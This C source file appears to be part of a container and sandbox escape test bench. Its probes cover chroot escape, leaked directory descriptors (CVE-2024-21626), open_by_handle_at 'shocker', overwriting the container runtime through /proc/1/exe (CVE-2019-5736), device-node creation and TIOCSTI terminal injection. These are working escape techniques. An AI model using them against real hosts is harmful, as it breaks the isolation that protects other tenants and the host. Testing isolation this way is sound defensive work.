/* Files, devices, descriptors, and the way out of a root directory. */
#include "attack.h"

#include <dirent.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

/* open PATH FLAGS: opened and closed, nothing is written. */
static long open_(int argc, char **argv)
{
    int fd = open(argc ? argv[0] : "/", (int)number(argc, argv, 1));
    if (fd < 0)
        return -errno;
    close(fd);
    return 0;
}

static long mkdir_(int argc, char **argv)
{
    long result = outcome(mkdir(argc ? argv[0] : "/x", 0755));
    if (!result)
        rmdir(argv[0]);
    return result;
}

/* node b|c MAJOR MINOR DIRECTORY: make a device and open it for reading. */
static long node(int argc, char **argv)
{
    char path[256];
    mode_t type = argc && *argv[0] == 'b' ? S_IFBLK : S_IFCHR;
    dev_t device = makedev((unsigned)number(argc, argv, 1), (unsigned)number(argc, argv, 2));
    snprintf(path, sizeof path, "%s/tarebench-node", argc > 3 ? argv[3] : "/tmp");
    if (mknod(path, type | 0600, device))
        return -errno;
    note("made");
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    long result = fd < 0 ? -errno : 0;
    if (fd >= 0)
        close(fd);
    unlink(path);
    return result;
}

/* Every descriptor that is open, and what it is. */
static long descriptors(int argc, char **argv)
{
    DIR *directory = opendir(argc ? argv[0] : "/proc/self/fd");
    if (!directory)
        return -errno;
    for (struct dirent *entry; (entry = readdir(directory));) {
        char path[300], target[300] = "";
        if (*entry->d_name == '.' || atoi(entry->d_name) == dirfd(directory))
            continue;
        snprintf(path, sizeof path, "%s/%s", argc ? argv[0] : "/proc/self/fd", entry->d_name);
        if (readlink(path, target, sizeof target - 1) >= 0)
            note("%s=%s|", entry->d_name, target);
    }
    closedir(directory);
    return 0;
}

/* CVE-2024-21626: any descriptor or the working directory that is a directory out of the root. */
static long leaked_directory(int argc, char **argv)
{
    char where[4096];
    (void)argc, (void)argv;
    long length = syscall(SYS_getcwd, where, sizeof where);
    if (length > 0 && *where != '/') {
        note("working directory %s", where);
        return 0;
    }
    for (int fd = 0; fd < 1024; fd++)
        if (!fchdir(fd)) {
            length = syscall(SYS_getcwd, where, sizeof where);
            note("descriptor %d is %s", fd, length > 0 ? where : "?");
            return 0;
        }
    return -ENOTDIR;
}

/* shocker: a handle of the root of the file system that a path is on, whatever the mount shows. */
static long open_by_handle(int argc, char **argv)
{
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle = {.head.handle_bytes = 128};
    const char *path = argc ? argv[0] : "/dev/shm";
    int mount_id, mount_fd = open(path, O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0 || name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0))
        return -errno;
    note("named");
    return outcome(open_by_handle_at(mount_fd, &handle.head, O_RDONLY));
}

/* chroot into a directory, keep a descriptor outside of it, walk up. Notes device and inode of
 * where it ends: with a chroot for a root that is the host's. */
static long chroot_escape(int argc, char **argv)
{
    struct stat root;
    (void)argc, (void)argv;
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0 || (mkdir("/tmp/inner", 0755) && errno != EEXIST) || chroot("/tmp/inner") ||
        fchdir(fd))
        return -errno;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return -errno;
    if (chroot(".") || stat("/", &root))
        return -errno;
    note("%lu:%lu", (unsigned long)root.st_dev, (unsigned long)root.st_ino);
    return 0;
}

/* CVE-2019-5736: the program that made the box, opened through a process of its. */
static long overwrite_program(int argc, char **argv)
{
    const char *path = argc ? argv[0] : "/proc/1/exe";
    char again[64];
    int direct = open(path, O_WRONLY);
    if (direct >= 0)
        return 0;
    long reason = -errno;
    int handle = open(path, O_PATH);
    if (handle < 0)
        return -errno;
    note("handle");
    snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
    return open(again, O_WRONLY | O_APPEND) >= 0 ? 0 : reason;
}

/* Push a character into the terminal that the box was started from. */
static long push_input(int argc, char **argv)
{
    char character = '#';
    int fd = argc ? open(argv[0], O_RDWR) : 0;
    return fd < 0 ? -errno : outcome(ioctl(fd, TIOCSTI, &character));
}

const struct entry FILES[] = {
    {"open", open_},
    {"mkdir", mkdir_},
    {"node", node},
    {"descriptors", descriptors},
    {"leaked-directory", leaked_directory},
    {"open-by-handle", open_by_handle},
    {"chroot-escape", chroot_escape},
    {"overwrite-program", overwrite_program},
    {"push-input", push_input},
    {0},
};
